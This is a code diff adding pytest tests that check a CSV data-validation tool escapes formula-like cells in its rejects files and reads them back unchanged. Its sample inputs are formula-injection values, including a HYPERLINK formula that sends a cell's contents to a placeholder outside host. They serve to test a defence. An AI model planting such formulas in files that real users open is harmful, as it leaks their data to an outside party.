@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import stat
 import threading
@@ -11,7 +13,10 @@ from pathlib import Path
 import orjson
 import pyarrow as pa
 import pytest
+from conftest import cli
 
+from t360cli.readers import SourceOptions, read_chunks
+from t360cli.readers.csvsrc import _unquoted_column, spreadsheet_safe
 from t360cli.report import RejectsWriter, Report
 from t360cli.tally import Counts, ReasonCount, ReasonTally, Totals, reason_rules
 
@@ -202,3 +207,86 @@ def test_aggregate_sums_of_38_digit_values_are_exact(tmp_path) -> None:
         "aggregate:\n  by: [customerid, createtime]\n  sum: [Lots]\n",
     )
     assert out.records[0]["Lots"] == str(2 * int(nines)) + ".25"
+
+
+# -- SPEC 11: spreadsheet-safe rejects cells, and a rejects file fed back in ------------------------
+
+HOSTILE_CELLS = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1 (555) 010", "-12.5", "@SUM(A1:A9)", "\tx"]
+
+
+@pytest.mark.parametrize(
+    "cell, written",
+    [
+        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
+        ("+1 (555)", "'+1 (555)"),
+        ("-12.5", "-12.5"),  # a plain number: unchanged
+        ("+1,000.50", "+1,000.50"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("-", "'-"),
+        ("'=x", "''=x"),  # a quote the data already had survives the round trip
+        ("'abc", "'abc"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_spreadsheet_safe_cells_and_back(cell: str, written: str) -> None:
+    assert spreadsheet_safe(cell) == written
+    back = pa.chunked_array([[written]])
+    assert _unquoted_column(back).to_pylist() == [cell]
+
+
+def test_rejects_writer_escapes_every_cell_header_and_fixed_columns(tmp_path: Path) -> None:
+    w = RejectsWriter(tmp_path / "r.csv", ["note", "=cmd"])
+    w.write("=evil.csv", 2, "-reason", {"note": "=1+2", "=cmd": "-3"})
+    w.write("=evil.csv", 1, "r", {"note": "@x", "=cmd": None, "late": "+y"})  # unsorted and grown: rewritten
+    w.close()
+    rows = list(csv.reader(io.StringIO((tmp_path / "r.csv").read_text(encoding="utf-8"), newline="")))
+    assert rows == [
+        ["source_file", "source_line", "reason", "note", "'=cmd", "late"],
+        ["'=evil.csv", "1", "r", "'@x", "", "'+y"],
+        ["'=evil.csv", "2", "'-reason", "'=1+2", "-3", ""],
+    ]
+
+
+def _feed_back_mapping(tmp_path: Path) -> Path:
+    text = "kind: customers\nfields:\n  customerId: cid\n  firstName: note\n"
+    (tmp_path / "m.yaml").write_text(text, encoding="utf-8")
+    return tmp_path / "m.yaml"
+
+
+@pytest.mark.parametrize("ragged", [False, True], ids=["fast-path", "exact-path"])
+def test_a_rejects_file_fed_back_reads_the_original_values(tmp_path: Path, ragged: bool) -> None:
+    """validate -> rejects.csv (escaped) -> validate rejects.csv: the cells read are the originals,
+    so the second rejects file holds them escaped once, exactly as the first one."""
+    rows = [["", cell, f"k{i}"] for i, cell in enumerate(HOSTILE_CELLS)]
+    buf = io.StringIO()
+    csv.writer(buf).writerows([["cid", "note", "@tag"], *rows])
+    (tmp_path / "in.csv").write_text(buf.getvalue(), encoding="utf-8")
+    m = _feed_back_mapping(tmp_path)
+    first = cli("validate", "in.csv", "-m", str(m), "--rejects", "r1.csv", cwd=tmp_path)
+    assert first.returncode == 1, first.stderr
+    r1 = list(csv.reader(io.StringIO((tmp_path / "r1.csv").read_text(encoding="utf-8"), newline="")))
+    assert r1[0] == ["source_file", "source_line", "reason", "cid", "note", "'@tag"]
+    notes = [row[4] for row in r1[1:] if row[2] == "customerId: required, but empty"]
+    assert notes == [spreadsheet_safe(cell) for cell in HOSTILE_CELLS]
+    assert notes[2] == "-12.5" and all(n.startswith("'") for i, n in enumerate(notes) if i != 2)
+    if ragged:  # a short row sends the reader to its exact path (the csv module)
+        with open(tmp_path / "r1.csv", "a", encoding="utf-8", newline="") as f:
+            f.write("'=short,row\r\n")
+
+    chunks = list(read_chunks([tmp_path / "r1.csv"], SourceOptions()))
+    assert chunks[0].columns == ["source_file", "source_line", "reason", "cid", "note", "@tag"]
+    read = [r for c in chunks for r in c.table.to_pylist()]
+    assert [r["note"] for r in read if r["reason"] == "customerId: required, but empty"] == HOSTILE_CELLS
+    bad = [b.cells for c in chunks for b in c.bad]
+    assert bad == ([{"source_file": "=short", "source_line": "row"}] if ragged else [])
+
+    second = cli("validate", "r1.csv", "-m", str(m), "--rejects", "r2.csv", cwd=tmp_path)
+    assert second.returncode == 1, second.stderr
+    r2 = list(csv.reader(io.StringIO((tmp_path / "r2.csv").read_text(encoding="utf-8"), newline="")))
+    assert r2[0][:3] == ["source_file", "source_line", "reason"] and r2[0][-2:] == ["note", "'@tag"]
+    assert [row[-2:] for row in r2[1:] if row[2] == "customerId: required, but empty"] == [
+        row[-2:] for row in r1[1:] if row[2] == "customerId: required, but empty"
+    ]
